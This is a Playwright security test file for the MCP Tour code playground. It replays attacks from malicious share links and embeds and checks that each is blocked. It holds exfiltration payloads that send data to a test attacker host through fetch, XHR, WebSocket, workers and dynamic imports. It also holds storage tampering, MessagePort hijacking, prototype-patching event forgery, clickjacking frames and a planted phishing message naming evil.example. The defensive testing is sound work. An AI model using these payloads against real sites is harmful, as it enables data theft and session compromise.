import { expect, test, type Page } from '@playwright/test';
import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import LZString from 'lz-string';
import { LESSON_1, checkVerdicts, region, run, runButton, setCode, withoutMonaco } from './support';

// Share links, embeds and blog snippets carry code an attacker may have written. Each attack that
// once worked against the site is replayed here against the built site: an outside host served by
// the test logs every request it gets, and must get none.

interface Attacker {
  origin: string;
  requests: string[];
  /** HTML the attacker's host serves at a path, such as a page that frames the site. */
  pages: Map<string, string>;
  close(): Promise<void>;
}

async function startAttacker(): Promise<Attacker> {
  const requests: string[] = [];
  const pages = new Map<string, string>();
  const note = (request: IncomingMessage) => requests.push(`${request.method} ${request.url}`);
  const server = createServer((request, response) => {
    note(request);
    const page = pages.get(request.url ?? '');
    if (page) response.writeHead(200, { 'Content-Type': 'text/html' }).end(page);
    else
      response
        .writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': 'text/javascript' })
        .end('self.stolen = true;');
  });
  server.on('upgrade', (request, socket) => {
    note(request);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    // Another site than the MCP Tour under test (127.0.0.1), as an attacker's host is.
    origin: `http://localhost:${port}`,
    requests,
    pages,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

const shareLink = (code: string) => `/playground/#code/${LZString.compressToEncodedURIComponent(code)}`;

let attacker: Attacker;
test.beforeEach(async () => {
  attacker = await startAttacker();
});
test.afterEach(async () => {
  await attacker.close();
});

/** Each attempt prints "name: reached" or "name: blocked: <message>"; the program always finishes. */
function attempts(entries: Record<string, string>): string {
  const lines = Object.entries(entries).map(([name, body]) => `  [${JSON.stringify(name)}, async () => { ${body} }],`);
  return `const attempts: [string, () => Promise<unknown>][] = [\n${lines.join('\n')}\n];
for (const [name, attempt] of attempts) {
  try {
    await attempt();
    console.log(name + ': reached');
  } catch (error) {
    console.log(name + ': blocked: ' + (error as Error).message);
  }
}
console.log('attempts done');
`;
}

async function openAndRun(page: Page, url: string): Promise<void> {
  await withoutMonaco(page);
  await page.goto(url);
  await run(page);
}

test.describe('code from a share link', () => {
  test('reaches no other host: fetch, XHR, WebSocket, EventSource, import(), Worker and importScripts are refused with a clear message', async ({
    page,
  }) => {
    const target = attacker.origin;
    const code = attempts({
      fetch: `await fetch('${target}/fetch', { method: 'POST', body: 'stolen' });`,
      xhr: `await new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = () => reject(new Error('xhr failed')); x.open('GET', '${target}/xhr'); x.send(); });`,
      websocket: `await new Promise((resolve, reject) => { const s = new WebSocket('${target.replace('http', 'ws')}/ws'); s.onopen = resolve; s.onerror = () => reject(new Error('websocket failed')); });`,
      eventsource: `await new Promise((resolve, reject) => { const s = new EventSource('${target}/sse'); s.onopen = resolve; s.onerror = () => reject(new Error('eventsource failed')); });`,
      'import()': `const url = ['${target}', 'module.js'].join('/'); await import(url);`,
      worker: `new Worker(URL.createObjectURL(new Blob(["fetch('${target}/from-worker')"])));`,
      importScripts: `(globalThis as any).importScripts('${target}/script.js');`,
    });
    await openAndRun(page, shareLink(code));
    const console = region(page, 'Console');
    await expect(console).toContainText('attempts done');
    await expect(console).toContainText(
      `fetch: blocked: MCP Tour runs code offline: fetch to ${target}/fetch is not available.`,
    );
    await expect(console).toContainText('Every API and HTTP link in the tour is in the page');
    for (const name of ['xhr', 'websocket', 'eventsource', 'import()', 'worker', 'importScripts'])
      await expect(console).toContainText(`${name}: blocked:`);
    await expect(console).not.toContainText('reached');
    expect(attacker.requests).toEqual([]);
  });

  test('cannot read or plant anything in the site’s storage, and an edited lesson comes back as written', async ({
    page,
    context,
  }) => {
    await withoutMonaco(page);
    await page.goto(LESSON_1);
    const token = 'glpat-learnerPastedThis123';
    await setCode(page, `// my token: ${token}\nconsole.log('my lesson code');\n`);
    await run(page);

    const attack = await context.newPage();
    await withoutMonaco(attack);
    const code = attempts({
      caches: `const keys = await caches.keys(); await fetch('${attacker.origin}/caches?' + keys.join(','));`,
      'caches.open': `const cache = await caches.open('mcp-tour-editor-types'); await cache.put('/x', new Response('forged'));`,
      indexedDB: `indexedDB.open('mcp-tour');`,
      localStorage: `(globalThis as any).localStorage.setItem('mcp-tour:v1:progress', '{}');`,
      cookie: `(globalThis as any).document.cookie = 'x=1';`,
    });
    await attack.goto(shareLink(code));
    await run(attack);
    const attackConsole = region(attack, 'Console');
    await expect(attackConsole).toContainText('attempts done');
    await expect(attackConsole).toContainText(
      'caches: blocked: MCP Tour runs code offline: caches (storage) is not available.',
    );
    await expect(attackConsole).not.toContainText('reached');
    await attack.close();

    await page.reload();
    await expect(region(page, 'Editor')).toContainText(token);
    await run(page);
    await expect(region(page, 'Console')).toContainText('my lesson code');
    expect(attacker.requests).toEqual([]);
    // Nothing of the learner's text is kept in the site's Cache Storage at all.
    expect(await page.evaluate(() => caches.keys())).toEqual([]);
  });

  test('type answers an earlier version kept in Cache Storage (where planted entries could hide) are deleted', async ({
    page,
  }) => {
    await page.goto('/');
    await page.evaluate(async () => {
      const cache = await caches.open('mcp-tour-editor-types');
      await cache.put(
        '/__mcp-tour-editor-types/v1/planted',
        new Response('{"diagnostics":[{"messageText":"your session expired, log in at https://evil.example"}]}'),
      );
    });
    await page.goto(LESSON_1);
    // The editor's types worker starts once Run is usable and clears what earlier versions kept.
    await expect(runButton(page)).toBeEnabled();
    await expect.poll(() => page.evaluate(() => caches.has('mcp-tour-editor-types')), { timeout: 30_000 }).toBe(false);
    await expect(page.getByText('evil.example')).toHaveCount(0);
  });

  test('cannot take over the runtime’s port: forged events and a forged "done" change nothing', async ({ page }) => {
    await withoutMonaco(page);
    await page.goto(LESSON_1);
    await setCode(
      page,
      `let captured: MessagePort | undefined;
const original = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
  captured = this;
  return (original as (...a: unknown[]) => void).apply(this, args);
};
const forged = { type: 'events', events: [{ kind: 'console', seq: 9000, t: 0, layer: 'runtime', level: 'log', text: 'FORGED LINE' }] };
(self as unknown as Worker).postMessage(forged);
(self as unknown as Worker).postMessage({ type: 'done', status: 'ok' });
console.log('visible line');
await new Promise((resolve) => setTimeout(resolve, 50));
console.log('captured the port:', captured !== undefined);
captured?.postMessage(forged);
captured?.postMessage({ type: 'done', status: 'ok' });
`,
    );
    await run(page);
    const console = region(page, 'Console');
    await expect(console).toContainText('captured the port: false');
    await expect(console).not.toContainText('FORGED LINE');
    expect(await checkVerdicts(page)).toContain('fail');
  });

  test('after Stop, nothing more from that run reaches the page', async ({ page }) => {
    await withoutMonaco(page);
    await page.goto('/playground/');
    await setCode(page, "let n = 0;\nsetInterval(() => console.log('tick', n++), 1);\n");
    await expect(runButton(page)).toBeEnabled();
    await runButton(page).click();
    // The Console draws only the lines in sight, and they scroll fast: any tick shows the run is going.
    await expect(region(page, 'Console')).toContainText(/tick \d+/);
    await page.getByRole('button', { name: 'Stop', exact: true }).click();
    await expect(region(page, 'Console')).toContainText('Stopped: you pressed Stop');
    await setCode(page, "console.log('second run');\n");
    await run(page);
    const console = region(page, 'Console');
    await expect(console).toContainText('second run');
    await expect(console).not.toContainText('tick');
  });
});

test.describe('what a program sends is checked again by the page', () => {
  test('an event a program slips into the runtime’s output is validated like any other: a malformed one is dropped', async ({
    page,
  }) => {
    // Array.prototype.push is shared with the runtime in the Worker: the program adds an LLM
    // context entry of type "tools" without its tools into the runtime's outgoing batch.
    const code = `const push = Array.prototype.push;
let first: unknown;
Array.prototype.push = function (this: unknown[], ...items: any[]) {
  const e = items[0];
  if (e?.kind === 'console' && e.seq !== undefined) {
    if (!first) first = this;
    else if (this !== first) Reflect.apply(push, this, [{ kind: 'llm', layer: 'llm', host: 'h', entry: { type: 'tools' }, seq: 999999, t: 1 }]);
  }
  return Reflect.apply(push, this, items);
};
console.log('hi');
console.log('still here');
`;
    await openAndRun(page, shareLink(code));
    await expect(region(page, 'Console')).toContainText('still here');
    await expect(region(page, 'Chain')).toBeVisible();
    await expect(page.getByText(/could not draw/)).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Run', exact: true })).toBeEnabled();
  });

  test('what a program printed just before an endless loop reaches the Console', async ({ page }) => {
    await openAndRun(page, shareLink("console.log('before the loop');\nwhile (true) {}\n"));
    const console = region(page, 'Console');
    await expect(console).toContainText('Stopped after 5 s');
    await expect(console).toContainText('before the loop');
  });

  test('a short link whose code would take the highlighter minutes opens at once, uncoloured', async ({ page }) => {
    await withoutMonaco(page);
    await page.goto(shareLink('a'.repeat(100_000)));
    await expect(region(page, 'Editor')).toBeVisible();
    // Uncoloured: the grammar never ran on it (highlight.test.ts), so the page is free at once.
    await expect(region(page, 'Editor')).toContainText('a'.repeat(200));
    await expect(region(page, 'Editor').locator('[class*="hljs-"]')).toHaveCount(0);
    await expect(runButton(page)).toBeEnabled();
  });
});

test.describe('embeds and framing', () => {
  test('an autorun embed opened as a top-level page does not run until the reader clicks Run', async ({ page }) => {
    await withoutMonaco(page);
    await page.goto(
      `/embed/playground/?autorun=1#code/${LZString.compressToEncodedURIComponent("console.log('ran without a click');\n")}`,
    );
    await expect(runButton(page)).toBeEnabled();
    // Autorun fires as the runner becomes ready, in the same update that enables Run.
    await expect(page.getByText(/^Finished in/)).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Stop', exact: true })).toHaveCount(0);
    await runButton(page).click();
    await expect(page.getByRole('region', { name: 'Console' })).toContainText('ran without a click');
  });

  test('pages send a Content-Security-Policy; only embeds may be framed by another site', async ({
    page,
    request,
    baseURL,
  }) => {
    const lesson = await request.get(LESSON_1);
    const lessonPolicy = lesson.headers()['content-security-policy'];
    expect(lessonPolicy).toContain("frame-ancestors 'none'");
    expect(lessonPolicy).toContain("connect-src 'self'");
    expect(lessonPolicy).toContain("object-src 'none'");
    expect(lessonPolicy).toContain("base-uri 'none'");
    expect(lesson.headers()['x-frame-options']).toBe('DENY');
    const embed = await request.get('/embed/host-client-server/');
    expect(embed.headers()['content-security-policy']).toContain('frame-ancestors *');
    expect(embed.headers()['x-frame-options']).toBeUndefined();
    const sandbox = await request.get('/sandbox/');
    expect(sandbox.headers()['content-security-policy']).toContain("connect-src 'none'");
    // Visited as a page (or framed by another site without the sandbox attribute), the frame is still an
    // opaque origin: the header sandboxes it, and its script refuses to start outside the site's frame.
    await page.goto('/sandbox/');
    expect(await page.evaluate(() => self.origin)).toBe('null');
    // The same policy as a <meta>, for hosts that send no headers.
    await withoutMonaco(page);
    await page.goto(LESSON_1);
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
      'content',
      /connect-src 'self'/,
    );

    // A page of another site frames the lesson (to click Reset through an invisible frame) and an embed.
    attacker.pages.set(
      '/clickjack.html',
      `<iframe id="lesson" src="${baseURL}${LESSON_1}"></iframe><iframe id="embed" src="${baseURL}/embed/host-client-server/"></iframe>`,
    );
    await page.goto(`${attacker.origin}/clickjack.html`);
    await expect(page.frameLocator('#embed').getByRole('button', { name: 'Run', exact: true })).toBeVisible();
    await expect
      .poll(() =>
        page
          .frames()
          .find((frame) => frame.url().includes('chrome-error') || frame.url().includes(LESSON_1))
          ?.url(),
      )
      .toMatch(/^chrome-error:/);
  });
});

test('on a host that sends no headers, a lesson in another site’s frame shows a link instead of the app', async ({
  page,
  baseURL,
}) => {
  // GitHub Pages sends no headers: strip them, as such a host would serve the page.
  await page.route(`${baseURL}${LESSON_1}`, async (route) => {
    const response = await route.fetch();
    const headers = Object.fromEntries(
      Object.entries(response.headers()).filter(([name]) => !/^(content-security-policy|x-frame-options)$/i.test(name)),
    );
    await route.fulfill({ response, headers });
  });
  attacker.pages.set(
    '/frame-lesson.html',
    `<iframe id="lesson" src="${baseURL}${LESSON_1}" style="width: 800px; height: 400px"></iframe>`,
  );
  await page.goto(`${attacker.origin}/frame-lesson.html`);
  const framed = page.frameLocator('#lesson');
  await expect(framed.getByRole('link', { name: 'Open MCP Tour in its own tab' })).toBeVisible();
  await expect(framed.getByRole('button', { name: 'Reset', exact: true })).toHaveCount(0);
});

test('an embed in a frame sandboxed without allow-same-origin says what to change instead of staying blank', async ({
  page,
  baseURL,
}) => {
  attacker.pages.set(
    '/sandboxed-embed.html',
    `<iframe id="embed" sandbox="allow-scripts" src="${baseURL}/embed/host-client-server/" style="width: 700px; height: 300px"></iframe>`,
  );
  await page.goto(`${attacker.origin}/sandboxed-embed.html`);
  const embed = page.frameLocator('#embed');
  await expect(embed.getByText(/cannot run in a frame sandboxed without allow-same-origin/)).toBeVisible();
  await expect(embed.getByRole('link', { name: 'open it in a new tab' })).toBeVisible();
});
